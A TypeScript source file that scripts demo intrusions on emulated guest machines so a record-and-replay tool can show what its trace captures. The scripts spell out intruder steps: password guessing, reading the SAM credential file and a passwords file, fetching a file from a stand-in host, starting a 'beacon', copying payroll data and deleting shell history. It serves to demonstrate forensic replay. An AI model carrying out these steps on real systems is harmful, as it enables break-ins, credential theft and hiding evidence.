/** What the demos do with their guests: a script for the consoles, and what is said about it. */

export interface Demo {
  /** Of the guest that is built if it is not there yet; undefined where there is nothing to build. */
  readonly build?: string;
  /** What is recorded. */
  readonly recording: string;
  /** In the language of `rebek record --script`. */
  readonly script: string;
  /** The guest tells the truth of itself, as ntlet does. */
  readonly truth?: boolean;
  /** Commands to go on with, without `rebek`; `file` is quoted for a shell. */
  readonly next: (file: string) => readonly (readonly [command: string, what: string])[];
}

/** What a demo has shown, about its trace. */
export const conclusion = (
  file: string,
): string => `A whole PC was recorded while someone broke into it. The trace ${file} holds all that the PC could not
know by itself; replaying it executed every instruction of kernel and programs again, with the
same result. It will do so on any machine, as often as there are questions.`;

const inspect = (file: string) =>
  [
    [`info ${file}`, 'what it knows about itself'],
    [`dump ${file} --stream console`, 'the session, readable'],
  ] as const;
const verify = (file: string) => [`verify ${file}`, 'every byte, then every state hash'] as const;

const ntlet: Demo = {
  truth: true,
  recording:
    'an intruder at the first console, while the administrator works at the second. This is what the intruder sees:',
  // Both are inside NtReadFile most of the time; one process is killed as it computes, another inside a call.
  script: `
timeout 60
console 1
wait "login: "
console 0
wait "login: "
log "the guest is up: at the first console, an intruder tries the account guest"
send "guest\\n"
wait "password: "
send "letmein\\n"
wait "login: "
send "guest\\n"
wait "password: "
send "guest\\n"
wait "C:\\\\> "
log "… and is in. At the second console the administrator logs in, and starts a long computation"
console 1
send "Administrator\\n"
wait "password: "
send "honey\\n"
wait "C:\\\\> "
send "list Documents\\n"
wait "C:\\\\> "
send "run count 4000\\n"
sleep 0.3
console 0
send "whoami\\n"
wait "C:\\\\> "
send "type C:\\\\WINNT\\\\system32\\\\config\\\\sam\\n"
wait "C:\\\\> "
send "type Documents\\\\passwords.txt\\n"
wait "C:\\\\> "
send "ps\\n"
wait "C:\\\\> "
log "the intruder has read the passwords, kills the computation, fetches a file, and leaves something behind"
send "kill count.exe\\n"
wait "C:\\\\> "
send "fetch tools.example.net /stage2.cfg\\n"
wait "C:\\\\> "
send "start beacon\\n"
wait "C:\\\\> "
send "copy Documents\\\\payroll.csv stage2.dat\\n"
wait "C:\\\\> "
send "del stage2.cfg\\n"
wait "C:\\\\> "
send "exit\\n"
console 1
wait "count has ended"
wait "C:\\\\> "
send "ps\\n"
wait "C:\\\\> "
log "the administrator finds the intruder's process and kills it, too"
send "kill beacon.exe\\n"
wait "terminated"
wait "C:\\\\> "
send "exit\\n"
wait "login: "
log "the intruder comes back as Administrator, with the stolen password"
console 0
wait "login: "
send "Administrator\\n"
wait "password: "
send "honey\\n"
wait "C:\\\\> "
send "list\\n"
wait "C:\\\\> "
send "start beacon\\n"
wait "C:\\\\> "
send "exit\\n"
wait "login: "
end
`,
  next: (file) => [
    ...inspect(file),
    [`dump ${file} --stream truth --limit 40`, 'what the kernel says of itself: every system call'],
    [`truth ${file}`, 'whether that is consistent, and in figures'],
    [`dump ${file} --stream net`, 'what the guest said on the network'],
    verify(file),
    ['record', 'the same guest, to play in (guest, password guest)'],
    ['demo debian', 'the same with a real Linux'],
  ],
};

const debian: Demo = {
  build: 'from Debian packages; this is done once, and some 60 MB are downloaded.',
  recording: 'an intruder at the console of the guest, from power-on. This is what the guest says:',
  // An intruder who guessed the password and looks around.
  script: `
timeout 300
wait /login: $/
log "the guest is up: an intruder tries root with the password root"
send "root\\n"
timeout 60
wait /[Pp]assword: $/
send "root\\n"
wait "root@shop:~# "
log "… and is in; now a look around"
send "uname -a\\n"
wait "root@shop:~# "
send "id\\n"
wait "root@shop:~# "
send "cat /root/TODO\\n"
wait "root@shop:~# "
send "cat /home/user/passwords.txt\\n"
wait "root@shop:~# "
send "ifconfig\\n"
wait "root@shop:~# "
send "ping -c 3 192.168.86.1\\n"
wait "root@shop:~# "
log "the intruder covers the tracks and leaves"
send "rm -f /root/.ash_history\\n"
wait "root@shop:~# "
send "exit\\n"
wait /login: $/
end
`,
  next: (file) => [
    ...inspect(file),
    [`dump ${file} --stream net`, 'what the guest said on the network'],
    verify(file),
    ['record debian', 'a guest of your own to play in (root, password root)'],
  ],
};

/** By the names of their guests. */
export const demos = { ntlet, debian } as const satisfies Record<string, Demo>;
export type DemoGuest = keyof typeof demos;
